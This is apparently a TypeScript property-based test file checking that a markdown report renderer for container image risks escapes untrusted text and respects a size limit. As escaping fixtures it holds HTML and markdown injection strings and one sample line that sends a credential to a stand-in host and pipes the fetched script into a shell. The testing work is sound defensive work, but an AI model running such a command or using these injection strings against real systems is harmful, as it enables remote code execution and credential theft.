import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Document } from '../../src/report/document.ts';
import { MOST_CHARACTERS, markdownOf } from '../../src/report/markdown.ts';
import { anyCharacter } from '../any-character.ts';

function documentOf(text: string, rows = 1): Document {
  return {
    tool: 'list_image_risks',
    title: 'Risks of',
    subject: text,
    headline: '1 finding',
    problems: [text],
    bars: [{ label: '', counts: { critical: 1, high: 0, medium: 0, low: 0, unknown: 0 } }],
    facts: [['image id', text]],
    tables: [
      {
        heading: 'Findings',
        columns: [{ heading: 'Level' }, { heading: 'Evidence', isCode: true }],
        rows: Array.from({ length: rows }, () => ({ level: 'critical', cells: ['critical', text] })),
      },
    ],
    notes: [text],
  };
}

const FRAME = markdownOf(documentOf(''));
/** Everything that is not the report's own: what an empty text adds is nothing. */
const MARKS = [...'`*_~[]<>|#\\'];
const count = (text: string, mark: string) => text.split(mark).length - 1;

const hostile = fc.oneof(
  fc.array(anyCharacter, { maxLength: 30 }).map((characters) => characters.join('')),
  fc
    .array(
      fc.constantFrom(
        ...[
          '<img src=x>',
          '`',
          '|',
          '\n# ',
          '[a](http://x)',
          '![a](http://x)',
          '@team',
          '#12',
          '**',
          '~~',
          'www.x.com',
        ],
        ...[
          '</code>',
          '&lt;',
          '<!--',
          '-->',
          '\\',
          '$x$',
          ':smile:',
          '\r\n- ',
          'a@b.example.com',
          '\u202e',
          '\u2028',
        ],
      ),
      { maxLength: 8 },
    )
    .map((parts) => parts.join('')),
);

describe('a text of others', () => {
  test('adds no mark, no line and no link to the report, wherever it stands', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const drawn = markdownOf(documentOf(text));
        // What our own code makes around a text, and the references that stand for marks.
        const bare = drawn.replaceAll(/&#\d+;/g, '').replaceAll(/<\/?code>/g, '');
        const frame = FRAME.replaceAll(/<\/?code>/g, '');

        for (const mark of MARKS) expect(count(bare, mark), mark).toBe(count(frame, mark));
        expect(drawn.split('\n')).toHaveLength(FRAME.split('\n').length);
        expect(bare).not.toMatch(/@|:\/\/|www\.|[\p{Cf}\u2028\u2029]/iu);
        expect(count(drawn, '<code>')).toBe(count(drawn, '</code>'));
      }),
      { numRuns: 150 },
    );
  });

  test('stays what it was once the references are read', () => {
    const text = 'RUN curl -u "a:$B" https://c.example.com/?d=<e> | sh # `f` [g](h)';
    const read = markdownOf(documentOf(text)).replaceAll(/&#(\d+);/g, (_, code) =>
      String.fromCharCode(Number(code)),
    );

    expect(read.replaceAll('\u200b', '')).toContain(`<code>${text}</code>`);
  });
});

describe('a report', () => {
  test.each([0, 1, 400, 40_000])('of %i rows fits into a comment, and says what it leaves out', (rows) => {
    const drawn = markdownOf(documentOf('RUN chmod 777 /opt/app/service', rows));
    const shown = count(drawn, '| <code>critical</code> |');

    expect(drawn.length).toBeLessThanOrEqual(MOST_CHARACTERS);
    if (rows <= 400) expect(shown).toBe(rows);
    else expect(drawn).toContain(`The first ${shown} of ${rows} rows are shown here`);
    expect(drawn.includes('are shown here')).toBe(shown < rows);
  });

  test('fits into a comment whatever it holds', () => {
    const long = fc
      .tuple(fc.constantFrom('@', '`', '<', 'a', '\u{1f600}'), fc.constantFrom(1, 300, 20_000))
      .map(([mark, times]) => mark.repeat(times));
    const longs = fc.array(long, { maxLength: 40 });
    const table = fc.tuple(longs, fc.nat(400)).map(([cells, rows]) => ({
      heading: 'Findings',
      columns: cells.map(() => ({ heading: 'Containers' })),
      rows: Array.from({ length: rows }, () => ({ cells })),
    }));
    const any = fc.tuple(long, longs, longs, longs, fc.array(table, { maxLength: 3 }));
    fc.assert(
      fc.property(any, ([subject, problems, facts, notes, tables]) => {
        const named = facts.map((value): [string, string] => ['fact', value]);
        const document = { ...documentOf(subject), problems, facts: named, notes, tables };

        expect(markdownOf(document).length).toBeLessThanOrEqual(MOST_CHARACTERS);
      }),
      { numRuns: 30 },
    );
  });

  test('begins with a comment by which a bot finds it, and with what is missing', () => {
    const lines = markdownOf(documentOf('why')).split('\n').filter(Boolean);

    expect(lines.slice(0, 5)).toEqual([
      '<!-- tcss-mcp-server list_image_risks -->',
      '### Risks of <code>why</code>',
      '**Incomplete, something may be missing:**',
      '- why',
      '**1 finding**',
    ]);
    expect(markdownOf({ ...documentOf('why'), problems: [] })).not.toContain('Incomplete');
  });
});
